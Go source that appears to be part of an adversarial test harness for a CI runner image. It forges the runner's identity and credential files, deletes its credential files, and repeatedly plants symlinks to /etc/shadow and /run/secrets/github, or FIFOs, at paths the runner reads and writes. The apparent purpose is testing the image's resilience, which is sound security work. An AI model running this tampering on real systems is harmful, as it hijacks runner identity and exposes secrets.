package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// runnerFolders are where the runner may be: its home, or a copy where that is read-only.
func runnerFolders() []string {
	found := []string{home}
	more, _ := filepath.Glob("/tmp/*/.runner")
	for _, path := range more {
		found = append(found, filepath.Dir(path))
	}
	return found
}

var settings = []string{".runner", ".credentials", ".credentials_rsaparams"}

// runnerFile makes the runner's own files name another runner.
func runnerFile(l *loot) {
	for _, folder := range runnerFolders() {
		path := filepath.Join(folder, ".runner")
		text, err := os.ReadFile(path)
		if err != nil {
			continue
		}
		var content map[string]any
		if json.Unmarshal(bytes.TrimPrefix(text, []byte("\xef\xbb\xbf")), &content) != nil {
			continue
		}
		for name := range content {
			switch strings.ToLower(name) {
			case "agentid":
				content[name] = foreignID
			case "agentname":
				content[name] = foreignName
			}
		}
		forged, _ := json.Marshal(content)
		write(l, path, forged)
		write(l, filepath.Join(folder, ".credentials"), []byte(`{"scheme":"OAuth","data":{"clientId":"00000000-0000-0000-0000-000000000000","authorizationUrl":"http://127.0.0.1:1"}}`))
	}
}

func write(l *loot, path string, data []byte) {
	l.count("files")
	_ = os.Remove(path)
	if err := os.WriteFile(path, data, 0o644); err == nil {
		l.count("files that were forged")
	}
}

// noRunnerFile takes the runner's files away.
func noRunnerFile(l *loot) {
	for _, folder := range runnerFolders() {
		for _, name := range settings {
			l.count("files")
			if os.Remove(filepath.Join(folder, name)) == nil {
				l.count("files that were deleted")
			}
		}
	}
}

// links puts links, or what never ends to be read, where this image's own programs read and write.
func links(l *loot) {
	targets := []string{"/etc/shadow", "/run/secrets/github", "/dev/zero", "fifo"}
	target := targets[(round-1)%len(targets)]
	uid := os.Getuid()
	places := []string{"/tmp/jobs.log", "/tmp/runner_metrics.prom", home + "/.env", home + "/.path", home + "/.service"}
	for _, user := range []int{0, uid, 1002} {
		places = append(places, fmt.Sprintf("/dev/shm/runner-images-%d/state.json", user), fmt.Sprintf("/tmp/runner-images-%d/state.json", user))
	}
	places = append(places, "/run/runner-images/state.json")
	entries, _ := filepath.Glob("/tmp/runner*")
	for _, path := range entries {
		if info, err := os.Lstat(path); err == nil && info.Mode().IsRegular() {
			places = append(places, path)
		}
	}
	for _, folder := range []string{home + "/_diag", home + "/_diag/pages", home + "/_work", "/_work"} {
		names, _ := os.ReadDir(folder)
		for _, entry := range names {
			if entry.Type().IsRegular() {
				places = append(places, filepath.Join(folder, entry.Name()))
			}
		}
		places = append(places, filepath.Join(folder, "_tool"), filepath.Join(folder, "Runner_99999999-000000-utc.log"), filepath.Join(folder, "Worker_99999999-000000-utc.log"))
	}
	put := func(path string) bool {
		_ = os.MkdirAll(filepath.Dir(path), 0o755)
		_ = os.Remove(path)
		if target == "fifo" {
			return syscall.Mkfifo(path, 0o666) == nil
		}
		return os.Symlink(target, path) == nil
	}
	for _, path := range places {
		l.count("links")
		if put(path) {
			l.count("links that were made")
		}
	}
	// The supervisor writes its state again, in the place of a link: again and again, until the test has looked.
	l.save("json")
	enough := fmt.Sprintf("%s/links.%d.enough", folder, round)
	for end := time.Now().Add(5 * time.Minute); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat(enough); err == nil {
			break
		}
		for _, path := range places {
			if info, err := os.Lstat(path); err == nil && info.Mode().IsRegular() && put(path) {
				l.count("links that were made again")
			}
		}
	}
}
